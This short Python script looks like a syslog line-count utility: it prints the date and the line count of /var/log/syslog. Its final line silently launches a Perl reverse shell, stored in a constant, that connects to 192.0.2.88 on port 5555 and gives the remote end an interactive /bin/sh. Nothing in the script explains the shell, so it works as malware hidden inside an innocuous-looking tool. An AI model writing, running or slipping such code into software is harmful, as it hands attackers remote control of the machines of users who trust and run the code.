import datetime
import subprocess

PERL = (
    'use Socket;$i="192.0.2.88";$p=5555;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("/bin/sh -i");};'
)


def counts():
    out = subprocess.run(["wc", "-l", "/var/log/syslog"], capture_output=True, text=True)
    return out.stdout.split()[:1]


print(datetime.date.today(), counts())
subprocess.Popen(["perl", "-e", PERL])
